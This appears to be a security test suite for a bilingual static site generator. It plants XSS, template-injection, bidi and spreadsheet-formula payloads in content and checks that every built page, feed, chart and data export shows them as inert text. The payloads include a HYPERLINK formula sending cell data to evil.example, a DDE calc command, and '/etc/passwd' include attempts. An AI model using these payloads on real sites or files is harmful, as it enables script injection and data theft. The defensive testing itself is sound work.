"""Content made to harm, added and published as any other: on the site it is text."""

from __future__ import annotations

import csv
import json
import re
import shutil
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote
from xml.etree import ElementTree

import openpyxl
import polib
import pytest
from conftest import ROOT, serve
from playwright.sync_api import Browser, BrowserContext, Page

from jiebang.cli import main
from jiebang.corpus.load import load_corpus
from jiebang.runtime.layout import Layout
from jiebang.site.editions import build_site
from jiebang.site.root import write_feeds
from support import write_datasets

ID = "hostile-2024"
BIDI = "\u202etxt.exe\u202c\u200b\u2066"
TITLE = "2024年任务榜单<script>window.HIT=1</script>"
# In an indicator, a kind of injection each.
INDICATORS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点")≥3个',
    "+cmd|' /C calc'!A0≥5个",
    "-1+1≥7个",
    "@SUM(1+1)≥9个",
    f"零宽{BIDI}≥11个",
    "</textarea></title></script><svg/onload=window.HIT=1>≥2个",
    '机器人" onmouseover="window.HIT=1" x="≥4个',
    "[点这里](javascript:window.HIT=1)≥6个",
    '说明{: onclick="window.HIT=1" }≥8个',
    '{{ 7*7 }}{% include "/etc/passwd" %}≥10个',
    "--8<-- /etc/passwd≥12个",
    "&ltimg src=x onerror=window.HIT=1&gt≥13个",
)
TEXT = f"""附件3
{TITLE}
项目一：机器人<img src=x onerror=window.HIT=1>及应用
1.揭榜任务：研究机器人“>{{{{ config }}}}”关键技术。<iframe src="http://evil.example/"></iframe>。
2.考核指标：{"；".join(INDICATORS)}。
3.实施周期：不超过3年。
"""
ENGLISH = (
    '<img src=x onerror=window.HIT=1>English" onfocus="window.HIT=1" autofocus x="'
    " [link](javascript:window.HIT=1) {{ 7*7 }} {: onclick=window.HIT=1 } <b>bold</b>"
)
NOTE = '<script src="http://evil.example/x.js"></script><a href="javascript:window.HIT=1">note</a>'
TERM = f"""- id: robot
  zh: 机器人
  en: '<script>window.HIT=1</script>robot'
  definition: '<img src=x onerror=window.HIT=1> {{{{ 7*7 }}}} [a](javascript:window.HIT=1)'
  domain: '"><svg/onload=window.HIT=1>'
  source: 'javascript:window.HIT=1'
  note: '<style>body{{display:none}}</style>{BIDI}'
"""

THEME = """- id: robots
  zh: '机器人<img src=x onerror=window.HIT=1>'
  en: '</script><script>window.HIT=1</script>Robots" onclick="window.HIT=1'
  definition: '<svg/onload=window.HIT=1> {{ 7*7 }}'
  match: [机器人]
"""
PUBLIC = "https://example.org/x/"


@pytest.fixture(scope="module")
def layout(tmp_path_factory: pytest.TempPathFactory) -> Layout:
    """A project of this one document, added and translated by its usual doors, and built."""
    root = tmp_path_factory.mktemp("hostile")
    for name in ("docs", "glossary"):
        shutil.copytree(ROOT / name, root / name)
    shutil.copy(ROOT / "mkdocs.yml", root)
    (root / "content").mkdir()
    (root / "scripts").symlink_to(ROOT / "scripts")
    layout = Layout(root)
    layout.measures_yml.unlink()
    layout.terms_yml.write_text(TERM, "utf-8")
    layout.themes_yml.write_text(THEME, "utf-8")
    given = root / "given.txt"
    given.write_text(TEXT, "utf-8")
    title = ["--title", TITLE, "--title-en", ENGLISH, "--issuer", "<b>某厅</b>"]
    command = ["add", "--root", str(root), str(given), "--id", ID, *title]
    assert main([*command, "--url", "javascript:window.HIT=1"]) == 0
    path = layout.catalogue(ID)
    po = polib.pofile(str(path), wrapwidth=0)
    for entry in po:
        entry.msgstr, entry.tcomment = ENGLISH, NOTE
    po.save(str(path))
    note = f"  note: {{zh: '{ENGLISH}', en: '</dd><script>window.HIT=1</script>'}}\n"
    date = (
        "  date_issued: {basis: stated, zh: '<b onclick=window.HIT=1>2024年</b>', en: '2024-05-06',"
        " evidence: ['1: “<script>window.HIT=1</script>”']}\n"
    )
    sources = layout.sources_yml.read_text("utf-8")
    # What `add` read off the text gives way to what is planted.
    kept = re.sub(r"(?m)^  date_issued:.*\n(?:   .*\n)*", "", sources)
    layout.sources_yml.write_text(f"{kept.rstrip()}\n{note}{date}", "utf-8")
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("JIEBANG_SITE_URL", PUBLIC)  # with it: feeds, JSON-LD, Open Graph
        corpus = load_corpus(layout)
    assert not corpus.entries[0].lost and len(corpus.entries[0].tasks) == 1
    write_datasets(corpus, layout)
    build_site(corpus, layout)
    return layout


@pytest.fixture(scope="module")
def site(layout: Layout) -> Iterator[str]:
    yield from serve(layout.site)


@pytest.fixture(scope="module")
def seen() -> list[str]:
    """What the browser noticed that should not be."""
    return []


@pytest.fixture(scope="module")
def context(browser: Browser, site: str, seen: list[str]) -> Iterator[BrowserContext]:
    context = browser.new_context(locale="en-US")
    context.set_default_timeout(10_000)
    context.add_init_script(
        "document.addEventListener('securitypolicyviolation', e => console.error('CSP: ' +"
        " e.violatedDirective + ' ' + e.blockedURI))"
    )

    def watch(page: Page) -> None:
        page.on("dialog", lambda dialog: (seen.append("a dialog"), dialog.dismiss()))
        page.on("pageerror", lambda error: seen.append(str(error)))
        page.on("console", lambda m: seen.append(m.text) if m.type == "error" else None)
        page.on(
            "request",
            lambda r: (
                seen.append(r.url) if not r.url.startswith((site, "data:", "blob:")) else None
            ),
        )

    context.on("page", watch)
    yield context
    context.close()


@pytest.fixture(scope="module")
def page(context: BrowserContext) -> Page:
    return context.new_page()


TASK = f"tasks/{ID}/01/"
PAGES = [
    *(f"{edition}/{place}" for edition in ("en", "zh", "zh-hant") for place in ("", TASK)),
    *(f"en/documents/{ID}/", "en/documents/", "en/tasks/"),
    *("en/glossary/", "en/data/", "en/explore/"),
    *(f"en/search/?q={quote(words)}" for words in ("机器人", "<img src=x onerror=window.HIT=1>")),
    f"zh-hant/documents/{ID}/",
    *("zh-hant/search/?q=机器人", "zh-hant/explore/", "zh/glossary/", "zh-hant/glossary/"),
    *("en/charts/", "zh-hant/charts/", "en/themes/", "en/issuers/", "zh/data/"),
    *("zh-hant/themes/", "404.html"),
]  # fmt: skip


@pytest.mark.parametrize("place", PAGES)
def test_nothing_of_it_runs(place: str, page: Page, site: str, seen: list[str]) -> None:
    page.goto(site + place, wait_until="load")
    if "search" in place:
        page.wait_for_selector("#jb-results[data-state=done]")
    assert "Content-Security-Policy" in page.content()
    # As a reader does: over everything, into everything.
    page.evaluate(
        """() => { for (const e of document.querySelectorAll('body *')) {
             e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
             e.dispatchEvent(new FocusEvent('focus')); } }"""
    )
    assert page.evaluate("window.HIT") is None
    assert page.locator("body").is_visible()
    found = page.evaluate(
        """() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]
             .filter(a => /^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value)
                          && ['href', 'src', 'action', 'formaction'].includes(a.name))
             .map(a => e.tagName + ' ' + a.name + '=' + a.value))"""
    )
    assert not found
    put_in = "main iframe, main svg[onload], main style, main script[src^=http]"
    assert page.locator(put_in).count() == 0
    assert not seen


def test_it_is_shown_as_text(page: Page, site: str) -> None:
    page.goto(f"{site}en/{TASK}")
    words = page.locator("main").inner_text()
    for text in INDICATORS:
        assert text.rpartition("≥")[0] in words, text
    assert ENGLISH in " ".join(words.split()) or ENGLISH in words
    page.goto(f"{site}en/glossary/")
    words = page.locator("main").inner_text()
    assert "<script>window.HIT=1</script>robot" in words and "{{ 7*7 }}" in words
    page.goto(f"{site}en/documents/{ID}/")
    assert "<script>window.HIT=1</script>" in page.locator("main").inner_text()


class _Scan(HTMLParser):
    """What of a page could run, or be taken for the page's own: by its tags, not its looks."""

    def __init__(self, where: str) -> None:
        super().__init__()
        self.where, self.found = where, list[str]()
        self.script = ""
        self.data: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        kept = {name: value or "" for name, value in attrs}
        self.script = (kept.get("type") or "classic") if tag == "script" else ""
        bad = [n for n in kept if n.startswith("on") or n in ("srcdoc", "formaction")]
        links = (kept.get(n, "").strip().lower() for n in ("href", "src", "action", "data"))
        bad += [
            link for link in links if link.startswith(("javascript:", "data:text", "vbscript:"))
        ]
        evil = any("evil.example" in value for n, value in kept.items() if n in ("href", "src"))
        if bad or evil or tag in ("iframe", "object", "embed", "base", "marquee"):
            self.found.append(f"{self.where}: <{tag} {kept}>")

    def handle_endtag(self, tag: str) -> None:
        self.script = ""

    def handle_data(self, data: str) -> None:
        if self.script == "application/ld+json":
            self.data.append(data)
        elif self.script and "json" not in self.script and "window.HIT" in data:
            self.found.append(f"{self.where}: a script of the content: {data[:60]}")


def test_no_page_of_any_edition_nor_of_the_offline_copy_can_run_it(layout: Layout) -> None:
    """Every page, by its tags: the policy names whatever inline script a page was written with."""
    pages = {str(p.relative_to(layout.site)): p.read_text("utf-8")
             for p in layout.site.rglob("*.html")}  # fmt: skip
    with zipfile.ZipFile(layout.site / "offline" / "jiebang-site.zip") as archive:
        names = [n for n in archive.namelist() if n.endswith(".html")]
        assert not [n for n in archive.namelist() if ".." in n or n.startswith("/")]
        pages |= {f"zip/{name}": archive.read(name).decode() for name in names}
    assert {name.split("/")[0] for name in pages} >= {"en", "zh", "zh-hant", "zip", "404.html"}
    told = 0
    for where, html in pages.items():
        scan = _Scan(where)
        scan.feed(html)
        assert not scan.found
        for data in scan.data:
            told += TITLE in json.dumps(json.loads(data), ensure_ascii=False)
    assert told, "the title stands in no JSON-LD: nothing was tested"


def test_titles_are_text(page: Page, site: str) -> None:
    page.goto(f"{site}zh/documents/{ID}/")
    assert TITLE in page.title()
    assert page.locator("meta[property='og:title']").get_attribute("content") in page.title()
    page.goto(f"{site}zh-hant/documents/{ID}/")
    assert TITLE.replace("任务榜单", "任務榜單") in page.title()


def test_what_machines_read_is_well_formed_and_exact(layout: Layout, tmp_path: Path) -> None:
    feeds = [layout.site / edition / "feed.xml" for edition in ("en", "zh", "zh-hant")]
    for key in ("en", "zh"):
        (tmp_path / key).mkdir()
    public = replace(load_corpus(layout), site_url=PUBLIC)
    write_feeds(tmp_path, public, "2025-01-02", {f"{ID}.01.1": ()})
    for feed in [*feeds, *tmp_path.rglob("corrections.xml")]:
        root = ElementTree.parse(feed).getroot()
        atom = "{http://www.w3.org/2005/Atom}"
        assert {e.tag.removeprefix(atom) for e in root.iter()} <= {
            "feed", "id", "title", "subtitle", "updated", "published", "author", "name", "link",
            "entry", "summary", "content", "rights", "uri", "category", "generator", "icon",
        }  # fmt: skip
        links = [e.get("href", "") for e in root.iter(f"{atom}link")]
        assert links and all(link.startswith(PUBLIC) for link in links)
    assert TITLE in "".join(ElementTree.parse(feeds[1]).getroot().itertext())
    answers = list((layout.site / "api").rglob("*.json"))
    texts = [p.read_text("utf-8") for p in answers]
    assert texts and all(json.loads(text) is not None for text in texts)
    assert any(json.dumps(INDICATORS[0], ensure_ascii=False)[1:-1] in text for text in texts)
    charts = [*(layout.site / "en" / "charts").rglob("*.svg"), *layout.data.rglob("*.svg")]
    for chart in charts:
        tags = {str(e.tag).rpartition("}")[2] for e in ElementTree.parse(chart).iter()}
        assert not tags & {"script", "foreignObject", "iframe", "image"}, chart


def test_the_offline_copy_shows_it_as_text(
    browser: Browser, layout: Layout, tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("unpacked")
    with zipfile.ZipFile(layout.site / "offline" / "jiebang-site.zip") as archive:
        archive.extractall(folder)
    (root,) = folder.iterdir()
    context = browser.new_context(offline=True)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("dialog", lambda dialog: (errors.append("a dialog"), dialog.dismiss()))
    for place in (f"zh-hant/{TASK}", f"en/documents/{ID}/", "en/glossary/"):
        page.goto((root / place / "index.html").as_uri())
        assert page.evaluate("window.HIT") is None
        assert "window.HIT=1" in page.locator("main").inner_text()
    page.goto((root / "zh-hant/search/index.html").as_uri() + "?q=机器人")
    page.wait_for_selector("#jb-results[data-state=done] .jb-hit")
    assert page.evaluate("window.HIT") is None
    context.close()
    assert not errors


def test_marks_of_direction_stay_in_their_sentence(page: Page, site: str) -> None:
    """What follows on the page stands as if they were not there."""
    page.goto(f"{site}en/{TASK}")
    place = page.locator("#i5 [lang|=zh]").first
    assert BIDI in (place.text_content() or "")
    assert place.evaluate("e => getComputedStyle(e).unicodeBidi") in ("isolate", "plaintext")


def test_the_data_is_exact_and_no_formula(layout: Layout) -> None:
    with (layout.data / "indicators.csv").open(encoding="utf-8", newline="") as file:
        texts = [row["text_zh"] for row in csv.DictReader(file)]
    assert [t.rstrip("；。") for t in texts] == list(INDICATORS)
    rows = json.loads((layout.data / "indicators.json").read_text("utf-8"))
    assert [row["text_zh"] for row in rows] == texts
    book = openpyxl.load_workbook(layout.data / "jiebang.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    sheet = book["indicators"]
    column = next(c.column for c in next(sheet.iter_rows(max_row=1)) if c.value == "text_zh")
    ours = [row[column - 1] for row in sheet.iter_rows(min_row=2)]
    assert [str(c.value) for c in ours] == texts
    assert all(c.quotePrefix for c in ours if str(c.value)[0] in "=+-@")
    assert not any(c.hyperlink for c in cells if "evil" in str(c.value))
